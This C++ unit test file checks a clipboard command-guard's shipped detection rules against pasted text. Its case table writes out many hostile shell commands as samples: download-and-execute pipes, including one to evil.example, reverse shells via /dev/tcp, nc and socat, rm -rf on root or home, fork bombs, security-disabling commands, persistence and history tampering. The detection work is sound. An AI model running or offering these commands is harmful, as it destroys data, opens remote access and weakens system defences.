// The shipped "command-guard-rules.json": every rule compiles, flags what it
// is for, leaves its near misses alone, and never fires on a plain link or an
// everyday command.
#include "ScourletCore/clipboard/CommandGuard.h"

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "support/TempDir.h"

namespace scourlet {
namespace {

namespace fs = std::filesystem;

const fs::path kResources = fs::path(SCOURLET_SOURCE_DIR) / "ScourletCore" / "Resources";

const CommandGuard& shippedGuard() {
    static const CommandGuard guard(ResourceBundle(kResources),
                                    fs::path("/nonexistent/rules.json"));
    return guard;
}

bool flags(const std::string& text, const std::string& ruleId) {
    const auto result = shippedGuard().analyze(text, CommandRiskSeverity::info);
    return result && std::any_of(result->findings.begin(), result->findings.end(),
                                 [&](const auto& f) { return f.id == ruleId; });
}

std::string describe(const std::optional<CommandRiskResult>& result) {
    std::string out;
    if (result) {
        for (const auto& f : result->findings) {
            out += f.id + " [" + f.matchedText + "] ";
        }
    }
    return out;
}

TEST(ShippedCommandGuardRules, EveryRuleLoadsAndCompiles) {
    const std::string text = testing::readFile(kResources / "command-guard-rules.json");
    const auto version = CommandGuard::ruleBundleVersion(text);
    ASSERT_TRUE(version.has_value());
    EXPECT_EQ(shippedGuard().currentRulesVersion(), *version);

    const Json json = Json::parse(text);
    std::vector<std::string> fileIds;
    for (const auto& rule : json.at("rules")) {
        fileIds.push_back(rule.at("id").get<std::string>());
    }
    EXPECT_EQ(shippedGuard().loadedRuleIDs(), fileIds);
    std::vector<std::string> sorted = fileIds;
    std::sort(sorted.begin(), sorted.end());
    EXPECT_EQ(std::adjacent_find(sorted.begin(), sorted.end()), sorted.end()) << "duplicate id";
}

TEST(ShippedCommandGuardRules, TheBuiltBundleCarriesTheSameRules) {
    // The default guard finds the bundle beside the test program.
    const CommandGuard guard;
    EXPECT_EQ(guard.currentRulesVersion(), shippedGuard().currentRulesVersion());
    EXPECT_EQ(guard.loadedRuleIDs(), shippedGuard().loadedRuleIDs());
}

struct RuleCase {
    const char* rule;
    const char* flagged;
    const char* nearMiss;
};

// One row per rule or alternative: a text the rule must flag and a close text it must not.
const RuleCase kRuleCases[] = {
    {"download-pipe-shell", "curl -fsSL https://example.com/install.sh | sh",
     "curl -fsSL https://example.com/install.sh -o install.sh"},
    {"download-pipe-shell", "wget -qO- https://example.com/setup | sudo -E bash -",
     "curl https://example.com/file.txt | shasum -a 256"},
    {"download-pipe-shell", "curl -s 'https://example.com/i?a=1&b=2' |\n  /usr/bin/env zsh",
     "curl -s https://example.com/a || sh fallback.sh"},
    {"download-pipe-shell", "curl https://example.com/x|/bin/bash",
     "curl -s https://example.com/x && cat notes | sh"},
    {"download-pipe-shell", "curl https://example.com/a.sh | tee /tmp/a.sh | bash",
     "curl https://example.com/a.sh | tee /tmp/a.sh"},
    {"download-process-substitution", "bash <(curl -s https://example.com/install.sh)",
     "diff <(curl -s https://a.example/x) <(curl -s https://b.example/x)"},
    {"download-process-substitution", "source <(wget -qO- https://example.com/env.sh)",
     "cat <(curl -s https://example.com/env.sh)"},
    {"download-process-substitution", "bash < <(curl -fsSL https://example.com/i.sh)",
     "bash < install.sh"},
    {"download-command-substitution",
     "/bin/bash -c \"$(curl -fsSL "
     "https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
     "echo \"$(curl -s https://example.com/ip)\""},
    {"download-command-substitution", "eval \"$(wget -qO- https://example.com/env)\"",
     "eval \"$(ssh-agent -s)\""},
    {"download-command-substitution", "eval `curl -s https://example.com/x`", "eval `date`"},
    {"download-pipe-interpreter", "curl -sSL https://install.python-poetry.org | python3 -",
     "curl -s https://api.example.com/data | python3 -m json.tool"},
    {"download-pipe-interpreter", "wget -qO- https://example.com/x.pl | perl",
     "wget -qO- https://example.com/x.pl | less"},
    {"download-then-execute", "curl -LO https://example.com/tool && chmod +x tool && ./tool",
     "curl -LO https://example.com/tool.tar.gz && tar xzf tool.tar.gz"},
    {"download-then-execute", "wget https://example.com/setup.sh; bash setup.sh",
     "wget https://example.com/setup.sh; less setup.sh"},
    {"download-then-execute", "curl -fsSLO https://example.com/install.sh\nsh install.sh",
     "curl -fsSLO https://example.com/install.sh\ncat install.sh"},
    {"encoded-pipe-shell", "echo ZWNobyBoaQ== | base64 -d | bash", "echo ZWNobyBoaQ== | base64 -d"},
    {"encoded-pipe-shell", "echo 6563686f | xxd -r -p | sh", "echo 6563686f | xxd -r -p > out"},
    {"encoded-pipe-shell", "base64 --decode payload.txt | sudo sh",
     "base64 payload.txt | sudo tee out.b64"},
    {"encoded-eval", "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"", "eval \"$(ssh-agent -s)\""},
    {"encoded-eval", "bash -c \"$(echo ZWNobyBoaQ== | base64 --decode)\"",
     "bash -c \"$(echo ZWNobyBoaQ== | base64)\""},
    {"recursive-delete-root-or-home", "rm -rf /", "rm -rf /tmp/build"},
    {"recursive-delete-root-or-home", "sudo rm -rf --no-preserve-root /", "rm -f /"},
    {"recursive-delete-root-or-home", "rm -rf ~", "rm -rf ~/Downloads/old"},
    {"recursive-delete-root-or-home", "rm -r -f \"$HOME\"", "rm -r -f \"$HOME/.cache/x\""},
    {"recursive-delete-root-or-home", "rm -rf /*", "rm -rf ./*"},
    {"recursive-delete-root-or-home", "rm -fR ${HOME}/", "rm -f ${HOME}/notes.txt"},
    {"recursive-delete-root-or-home", "sudo rm -rf /usr", "sudo rm -rf /usr/local/share/x"},
    {"recursive-delete", "rm -rf build", "rm -f build.log"},
    {"recursive-delete", "rm --recursive build", "rm build.log"},
    {"recursive-delete", "docker run --rm alpine rm -r /data", "docker run --rm -it alpine sh"},
    {"admin-rights", "sudo apt install curl", "You can run this with sudo if it fails."},
    {"admin-rights", "$ sudo systemctl restart nginx", "man sudo"},
    {"admin-rights", "cd /opt/x && sudo make install", "cd /opt/sudo-docs && make"},
    {"admin-rights", "echo 1 | doas tee /proc/sys/x", "echo doas"},
    {"admin-rights", "% sudo -i", "# sudo is needed for the next step"},
    {"chmod-recursive-world-writable", "chmod -R 777 /var/www", "chmod -R 755 /var/www"},
    {"chmod-recursive-world-writable", "sudo chmod -R a+rwx .", "chmod 777 file.txt"},
    {"chmod-recursive-world-writable", "chmod --recursive go+w shared",
     "chmod --recursive u+w shared"},
    {"chmod-setuid", "chmod u+s /usr/local/bin/tool", "chmod u+x /usr/local/bin/tool"},
    {"chmod-setuid", "chmod 4755 ./tool", "chmod 0755 ./tool"},
    {"chmod-setuid", "sudo chmod +s helper", "chmod 1777 /tmp/shared"},
    {"dd-to-device", "sudo dd if=image.iso of=/dev/sdb bs=4M",
     "dd if=/dev/zero of=/dev/null bs=1M count=100"},
    {"dd-to-device", "dd if=/dev/zero of=/dev/rdisk2", "dd if=/dev/urandom of=random.bin bs=1M"},
    {"block-device-overwrite", "cat image.img > /dev/sda", "cat image.img > disk.img"},
    {"block-device-overwrite", "sudo shred -n 3 /dev/nvme0n1", "shred -u secrets.txt"},
    {"filesystem-format", "sudo mkfs.ext4 /dev/sdb1", "man mkfs"},
    {"filesystem-format", "mkswap /dev/sda2", "swapon --show"},
    {"filesystem-format", "diskutil eraseDisk APFS Blank disk2", "diskutil list"},
    {"fork-bomb", ":(){ :|:& };:", ":(){ echo hi; }"},
    {"fork-bomb", "bomb() { bomb | bomb & }; bomb", "f() { g | h & }"},
    {"macos-quarantine-removal", "xattr -d com.apple.quarantine /Applications/Tool.app",
     "xattr -l /Applications/Tool.app"},
    {"macos-quarantine-removal", "sudo xattr -rd com.apple.quarantine Tool.app",
     "xattr -p com.apple.quarantine file.zip"},
    {"macos-quarantine-removal", "xattr -cr ~/Downloads/Tool.app",
     "xattr -w user.note hello file.txt"},
    {"macos-security-disable", "sudo spctl --master-disable", "spctl --status"},
    {"macos-security-disable", "csrutil disable", "csrutil status"},
    {"macos-security-disable", "defaults write com.apple.LaunchServices LSQuarantine -bool NO",
     "defaults write com.apple.LaunchServices LSQuarantine -bool YES"},
    {"osascript",
     "osascript -e 'display dialog \"Password:\" default answer \"\" with hidden answer'",
     "man osascript"},
    {"osascript", "curl -s https://example.com/x | osascript", "which osascript"},
    {"powershell-download-execute", "irm https://get.example.com | iex",
     "iwr https://example.com/file.zip -OutFile file.zip"},
    {"powershell-download-execute",
     "iex (New-Object Net.WebClient).DownloadString('https://example.com/a.ps1')", "iex -S mix"},
    {"powershell-download-execute", "iex \"& { $(irm https://example.com/a.ps1) }\"",
     "iex \"& { $(Get-Date) }\""},
    {"powershell-download-execute",
     "powershell -c \"IWR https://example.com/x.ps1 -UseBasicParsing | Invoke-Expression\"",
     "powershell -c \"Invoke-Expression 'Get-Date'\""},
    {"powershell-encoded-command", "powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3",
     "powershell -NoProfile -File encode.ps1"},
    {"powershell-encoded-command", "pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0A", "pwsh -Command Get-Date"},
    // Any encoded command is hidden, however short its payload.
    {"powershell-encoded-command", "pwsh -e ZQA=", "pwsh -ExecutionPolicy RemoteSigned"},
    {"powershell-encoded-command", "powershell.exe -EncodedCommand \"YQB6AA==\"",
     "powershell -NoExit -Encoding utf8"},
    {"terminal-control-characters", "echo hello\x15touch ~/pwned", "printf 'a\\tb\\n'"},
    {"terminal-control-characters", "ls\x1b[2K rm -rf ~", "ls\trm-notes.txt"},
    {"powershell-hidden-or-bypass", "powershell -w hidden -nop -c calc",
     "powershell -WindowStyle Maximized"},
    {"powershell-hidden-or-bypass", "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
     "powershell -ExecutionPolicy RemoteSigned -File build.ps1"},
    {"windows-download-tool", "mshta https://example.com/a.hta", "mshta C:\\apps\\local.hta"},
    {"windows-download-tool", "certutil -urlcache -split -f https://example.com/a.exe a.exe",
     "certutil -hashfile setup.exe SHA256"},
    {"windows-download-tool", "bitsadmin /transfer job https://example.com/a.exe C:\\a.exe",
     "bitsadmin /list"},
    {"windows-download-tool", "regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll",
     "regsvr32 /s mylib.dll"},
    {"windows-defender-disable", "Set-MpPreference -DisableRealtimeMonitoring $true",
     "Set-MpPreference -DisableRealtimeMonitoring $false"},
    {"windows-defender-disable", "Add-MpPreference -ExclusionPath C:\\Temp", "Get-MpPreference"},
    {"git-hooks-redirect", "git config core.hooksPath .githooks", "git config core.autocrlf input"},
    {"git-hooks-redirect", "git -c core.hookspath=/tmp/h commit -m x", "git commit -m x"},
    {"git-hooks-redirect", "git config --global core.fsmonitor 'sh -c x'",
     "git config --global core.editor vim"},
    {"shell-startup-file-write", "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
     "source ~/.zshrc"},
    {"shell-startup-file-write", "curl -s https://example.com/x | tee -a ~/.zshrc",
     "cp ~/.bashrc ~/.bashrc.bak"},
    {"shell-startup-file-write", "echo x > /etc/profile.d/x.sh", "echo x > ~/.bashrc.bak"},
    {"shell-startup-file-write", "printf 'x' >> \"$HOME/.profile\"", "cat ~/.profile"},
    {"cron-persistence", "(crontab -l; echo \"* * * * * /tmp/x\") | crontab -", "crontab -l"},
    {"cron-persistence", "crontab -r", "crontab -e"},
    {"cron-persistence", "crontab mycron.txt", "man crontab"},
    {"cron-persistence", "echo '* * * * * root /tmp/x' > /etc/cron.d/x", "ls /etc/cron.d/"},
    {"launchd-persistence", "launchctl load -w ~/Library/LaunchAgents/com.example.agent.plist",
     "launchctl list"},
    {"launchd-persistence", "cp agent.plist ~/Library/LaunchAgents/", "ls ~/Library/LaunchAgents/"},
    {"ssh-authorized-keys", "echo 'ssh-ed25519 AAAAC3Nza me' >> ~/.ssh/authorized_keys",
     "cat ~/.ssh/authorized_keys"},
    {"ssh-authorized-keys", "curl -s https://example.com/k | tee -a /root/.ssh/authorized_keys",
     "ssh-copy-id user@example.com"},
    {"sudoers-change", "echo 'me ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/me",
     "sudo cat /etc/sudoers"},
    {"sudoers-change", "echo x >> /etc/sudoers", "sudo visudo"},
    {"reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -l 8080"},
    {"reverse-shell", "nc -e /bin/sh 10.0.0.1 4444", "nc -zv example.com 443"},
    {"reverse-shell", "socat tcp:10.0.0.1:4444 exec:/bin/bash", "socat - tcp:example.com:80"},
    {"linux-security-disable", "sudo setenforce 0", "sudo setenforce 1"},
    {"linux-security-disable", "ufw disable", "ufw enable"},
    {"linux-security-disable", "systemctl disable --now firewalld", "systemctl stop nginx"},
    {"linux-security-disable", "iptables -F", "iptables -L"},
    {"history-tampering", "history -c", "history | grep ssh"},
    {"history-tampering", "unset HISTFILE", "echo $HISTFILE"},
    {"history-tampering", "export HISTFILE=/dev/null", "export HISTSIZE=10000"},
    {"history-tampering", "HISTSIZE=0", "HISTSIZE=500"},
    {"history-tampering", "rm ~/.bash_history", "cat ~/.zsh_history"},
    {"history-tampering", "set +o history", "set -o history"},
    {"path-change", "export PATH=\"$HOME/bin:$PATH\"", "echo $PATH"},
    {"macos-defaults-write", "defaults write com.apple.finder AppleShowAllFiles -bool true",
     "defaults read com.apple.finder"},
    {"make-executable", "chmod +x install.sh", "chmod -x install.sh"},
    {"make-executable", "chmod u+x run", "chmod 644 notes.txt"},
};

TEST(ShippedCommandGuardRules, EachRuleFlagsItsCaseAndNotItsNearMiss) {
    for (const auto& c : kRuleCases) {
        EXPECT_TRUE(flags(c.flagged, c.rule))
            << c.rule << " missed: " << c.flagged << "\n  found: "
            << describe(shippedGuard().analyze(c.flagged, CommandRiskSeverity::info));
        EXPECT_FALSE(flags(c.nearMiss, c.rule)) << c.rule << " fired on: " << c.nearMiss;
    }
}

TEST(ShippedCommandGuardRules, EveryRuleHasACase) {
    for (const auto& id : shippedGuard().loadedRuleIDs()) {
        EXPECT_TRUE(std::any_of(std::begin(kRuleCases), std::end(kRuleCases),
                                [&](const RuleCase& c) { return id == c.rule; }))
            << id;
    }
}

// Every copied text is checked before it is cleaned, so links must pass, even
// those whose paths and queries name commands.
TEST(ShippedCommandGuardRules, PlainLinksNeverFire) {
    const char* links[] = {
        "https://example.com/",
        "https://github.com/curl/curl/releases/tag/curl-8_5_0",
        "https://example.com/docs/curl-sh-install?from=curl|sh",
        "https://www.google.com/search?q=curl+https%3A%2F%2Fexample.com+%7C+sh&utm_source=x",
        "https://stackoverflow.com/questions/123/how-to-use-sudo-with-bash?utm_source=twitter",
        "https://example.com/sudo/bash/rm-rf/?cmd=sudo+rm+-rf+%2F&sh=1",
        "https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh",
        "https://get.docker.com/?channel=stable&sh=bash&sudo=true",
        "https://example.com/dotfiles/blob/main/.bashrc",
        "https://example.com/users/~root/.ssh/authorized_keys",
        "https://crontab.guru/#*/5_*_*_*_*",
        "https://example.com/a?x=1&history=-c&HISTSIZE=0",
        "https://example.com/r?url=https%3A%2F%2Fevil.example%2Fx.sh%7Cbash",
        "https://www.amazon.com/dp/B0TEST?tag=abc-20&ref_=curl_wget_bash",
        "https://developer.apple.com/library/archive/osascript",
        "https://learn.microsoft.com/powershell/module/invoke-expression?view=powershell-7.4",
        "https://example.com/iex/irm/iwr?powershell=-enc",
        "http://example.com/dev/tcp/127.0.0.1/80",
        "https://example.com/wget-bash-pipe?curl=1&wget=2&bash=3&sh=4&sudo=5&eval=6",
        "https://x.com/user/status/1?s=20&t=abc",
        "https://example.com/#!/bin/bash",
        "https://example.com/export?PATH=/usr/bin&chmod=777&rm=-rf",
        "https://example.com/xattr/-cr/com.apple.quarantine",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=x&index=1&t=42s",
        "https://mail.example.com/?q=dd+if%3D%2Fdev%2Fzero+of%3D%2Fdev%2Fsda",
        "https://en.wikipedia.org/wiki/Fork_bomb",
        "mailto:someone@example.com?subject=sudo%20help",
        "http://localhost:8080/api/v1/run?cmd=ls&sudo=0",
    };
    for (const char* link : links) {
        const auto result = shippedGuard().analyze(link, CommandRiskSeverity::info);
        EXPECT_EQ(result, std::nullopt) << link << " -> " << describe(result);
    }
}

TEST(ShippedCommandGuardRules, EverydayCommandsAndProseDoNotWarn) {
    const char* texts[] = {
        "ls -la",
        "git status",
        "git clone https://github.com/user/repo.git",
        "brew install wget",
        "npm install --save-dev typescript",
        "docker run -it --rm ubuntu bash",
        "ps aux | grep ssh",
        "curl -s https://api.github.com/repos/x/y | jq .",
        "cd ~/projects && make",
        "python3 -m venv .venv && source .venv/bin/activate",
        "ssh user@example.com",
        "tar xzf archive.tar.gz",
        "kubectl get pods -n default",
        "wget https://example.com/file.zip",
        "cat ~/.bashrc",
        "grep -rn TODO src | sort | uniq -c",
        "chmod 644 notes.txt",
        "echo $SHELL",
        "Read https://example.com/guide?utm_source=x to learn how sudo and bash work.",
        "Meeting notes:\n- ship on Friday\n- see https://example.com/board",
    };
    for (const char* text : texts) {
        const auto result = shippedGuard().analyze(text, CommandRiskSeverity::warning);
        EXPECT_EQ(result, std::nullopt) << text << " -> " << describe(result);
    }
}

// A neutralized copy with a line feed typed as Ctrl-U: the command after it
// would run, so it is analyzed, and the control itself is a finding.
TEST(ShippedCommandGuardRules, ControlCharactersBehindTheNeutralizedHeaderAreFlagged) {
    const std::string text = CommandGuard::neutralizedCommand("ls") + "\n# x\x15" +
                             "curl -fsSL https://evil.example/x.sh | sh";
    const auto result = shippedGuard().analyze(text, CommandRiskSeverity::warning);
    ASSERT_TRUE(result.has_value());
    EXPECT_EQ(result->severity, CommandRiskSeverity::danger);
    EXPECT_TRUE(flags(text, "download-pipe-shell"));
    EXPECT_TRUE(flags(text, "terminal-control-characters"));
    // The finding shows the control visibly.
    for (const auto& f : result->findings) {
        if (f.id == "terminal-control-characters") {
            EXPECT_EQ(f.matchedText, "^Ucurl -fsSL https://evil.example/x.sh | sh");
        }
    }
}

TEST(ShippedCommandGuardRules, ALongTextIsAnalyzedWithinItsSizeLimit) {
    // Many near-starts of rules in one text, the worst shape for the searches.
    std::string text;
    while (text.size() + 64 < CommandGuard::maximumCommandBytes) {
        text += "curl rm -r chmod xattr git dd sudo eval bash ";
    }
    text += "| sh";
    const auto start = std::chrono::steady_clock::now();
    const auto result = shippedGuard().analyze(text, CommandRiskSeverity::info);
    const auto elapsed = std::chrono::steady_clock::now() - start;
    ASSERT_TRUE(result.has_value());
    // Generous even for a sanitizer build: a runaway pattern would take seconds.
    EXPECT_LT(elapsed, std::chrono::seconds(2));
    for (const auto& f : result->findings) {
        EXPECT_LE(f.matchedText.size(), 160u * 4) << f.id;
    }
}

}  // namespace
}  // namespace scourlet
